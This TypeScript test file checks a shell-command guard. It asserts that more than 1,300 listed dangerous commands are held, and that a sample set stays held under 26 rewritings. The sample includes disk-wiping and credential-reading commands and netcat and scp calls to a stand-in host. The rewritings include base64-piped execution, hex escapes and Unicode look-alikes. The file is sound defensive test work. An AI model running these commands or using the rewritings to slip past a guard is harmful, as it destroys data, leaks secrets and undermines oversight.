/**
 * Commands that destroy, leak or run unknown code, from the manuals of the programs and the public
 * lists of commands never to type. None runs unasked, however it is written.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { fc } from '../../../support/fast-check.ts';
import { isHeld } from './judge-command.ts';

/** One command a line below a heading; `⏎` stands for a line's end. */
const COMMANDS = readFileSync(new URL('held-commands.txt', import.meta.url), 'utf8')
  .split('\n')
  .filter((line) => line !== '' && !/^# \w+$/.test(line))
  .map((line) => line.replaceAll('⏎', '\n'));

/** Ways to write the same command, none of which changes what runs. */
const SPELLINGS: readonly ((command: string) => string)[] = [
  (command) => `  ${command}  `,
  (command) => command.replaceAll(' ', '   '),
  (command) => command.replaceAll(' ', '\t'),
  (command) => command.replaceAll(' ', ' \\\n '),
  (command) => command.replace(/^(\w)(\w*)/, "'$1'$2"),
  (command) => command.replace(/^(\w)(\w*)/, '$1""$2'),
  (command) => command.replace(/^(\w)(\w+)/, '$1\\$2'),
  (command) =>
    command.replace(/^(\w+)/, (name) => `$'${[...name].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}'`),
  (command) => command.replace(/^(\w+)/, '$(echo $1)'),
  (command) => command.replace(/^(\w+)/, '/usr/bin/$1'),
  (command) => command.replace(/^(\w+)/, (name) => name.toUpperCase()),
  (command) =>
    command.replace(/^\w+/, (name) => name.replace(/[a-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0))),
  (command) => `sudo ${command}`,
  (command) => `sudo -n -u root -- ${command}`,
  (command) => `env -i A=b ${command}`,
  (command) => `nohup nice -n 5 timeout 60 ${command}`,
  (command) => `ls; ${command}`,
  (command) => `true && { ${command}; }`,
  (command) => `(${command}) &`,
  (command) => `if true; then ${command}; fi`,
  (command) => `echo "$(${command})"`,
  (command) => `sh -c '${command.replaceAll("'", "'\\''")}'`,
  (command) => `bash <<'END-${command.length}'\n${command}\nEND-${command.length}`,
  (command) => `cat <<'END-${command.length}' | sh\n${command}\nEND-${command.length}`,
  (command) => `echo ${Buffer.from(command).toString('base64')} | base64 -d | sh`,
  (command) => `eval "$(echo ${Buffer.from(command).toString('base64')} | base64 --decode)"`,
];

/** Commands of one simple run, to which every spelling applies. */
const PLAIN = [
  'rm -rf /',
  'rm -fr ~',
  'rm -rf /etc',
  'mkfs.ext4 /dev/sda1',
  'dd if=/dev/zero of=/dev/sda',
  'chmod -R 777 /usr',
  'shred disk.img',
  'git push --force origin main',
  'terraform destroy',
  'kubectl delete ns prod',
  'aws s3 rb s3://x --force',
  'dropdb prod',
  'cat /etc/shadow',
  'cat .env',
  'nc x.example 4444',
  'scp a.txt x.example:b',
  'shutdown now',
  'find / -delete',
] as const;

describe('classifyCommand', () => {
  it('holds every command that harms', () => {
    expect(COMMANDS.length).toBeGreaterThanOrEqual(1_300);
    expect(COMMANDS.filter((command) => !isHeld(command))).toStrictEqual([]);
  });

  it('holds them in every spelling', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...PLAIN),
        fc.array(fc.constantFrom(...SPELLINGS), { maxLength: 2 }),
        (command, spell) => {
          const spelled = spell.reduce((text, change) => change(text), command as string);
          expect(isHeld(spelled), spelled).toBe(true);
        },
      ),
      { numRuns: 2_000 },
    );
  });
});
